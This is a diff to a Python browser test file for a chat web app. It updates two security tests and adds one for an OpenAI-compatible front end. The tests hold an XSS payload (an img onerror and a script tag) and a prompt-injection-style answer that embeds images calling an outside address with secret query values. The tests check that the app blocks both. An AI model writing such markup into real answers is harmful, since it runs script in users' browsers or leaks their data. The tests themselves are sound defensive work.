@@ -219,11 +219,13 @@ ATTACK = '<img src=x onerror="window.attacked=(window.attacked||0)+1"> <script>w
 
 
 def test_html_in_a_message_and_in_an_answer_never_runs(browser, demo, monkeypatch):
-    def answer_with_html(prompt, *args, **kwargs):  # a model that echoes what a web page told it to say
-        yield {"text": ATTACK, "end_of_content": False}
-        yield {"text": ATTACK, "end_of_content": True, "finish_reason": "stop", "completion_tokens": 1}
+    from engine import Delta, End
 
-    monkeypatch.setattr(demo, "stream_generate", answer_with_html)
+    def answer_with_html(request):  # a model that echoes what a web page told it to say
+        yield Delta(ATTACK)
+        yield End("stop", completion_tokens=1)
+
+    monkeypatch.setattr(demo, "stream", answer_with_html)
     with serve(demo) as (url, _):
         page = open_page(browser, url)
         dialogs = []
@@ -255,10 +257,13 @@ def test_images_in_an_answer_never_call_an_outside_address(browser, demo, monkey
     address = f"http://127.0.0.1:{outside.server_address[1]}"
     leak = f'Sure. <img src="{address}/tag.png?secret=1"> ![chart]({address}/markdown.png?secret=2) Done.'
 
-    def answer_with_images(prompt, *args, **kwargs):  # what a prompt injection would have the model write
-        yield {"text": leak, "end_of_content": True, "finish_reason": "stop", "completion_tokens": 1}
+    from engine import Delta, End
 
-    monkeypatch.setattr(demo, "stream_generate", answer_with_images)
+    def answer_with_images(request):  # what a prompt injection would have the model write
+        yield Delta(leak)
+        yield End("stop", completion_tokens=1)
+
+    monkeypatch.setattr(demo, "stream", answer_with_images)
     try:
         with serve(demo) as (url, _):
             page = open_page(browser, url)
@@ -277,3 +282,24 @@ def test_an_empty_message_is_a_warning(browser, demo):
         send(page, "   ")
         page.get_by_text("The message is empty; type a question first.").wait_for(timeout=10000)
         assert counter.calls == 0 and page.locator('[data-testid="user"]').count() == 0
+
+
+def test_gradios_own_openai_front_end_chats_through_v1(browser, demo):
+    """gr.load_chat, an OpenAI front end nobody here wrote, talks to the app's /v1 API with a key."""
+    import gradio as gr
+
+    from launchers.loading import free_port
+
+    with serve(demo, api_keys=["secret-key"]) as (url, counter):
+        front = gr.load_chat(url + "/v1/", model="demo-model", token="secret-key")
+        port = free_port()
+        front.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
+        try:
+            before = counter.calls
+            page = open_page(browser, f"http://127.0.0.1:{port}")
+            send(page, "What is the capital of France?")
+            answer = wait_for_answer(page, lambda t: t.endswith("Paris."))
+            page.screenshot(path=str(ARTIFACTS / "load_chat.png"), full_page=True)
+            assert answer == "The capital of France is Paris." and counter.calls > before
+        finally:
+            front.close()
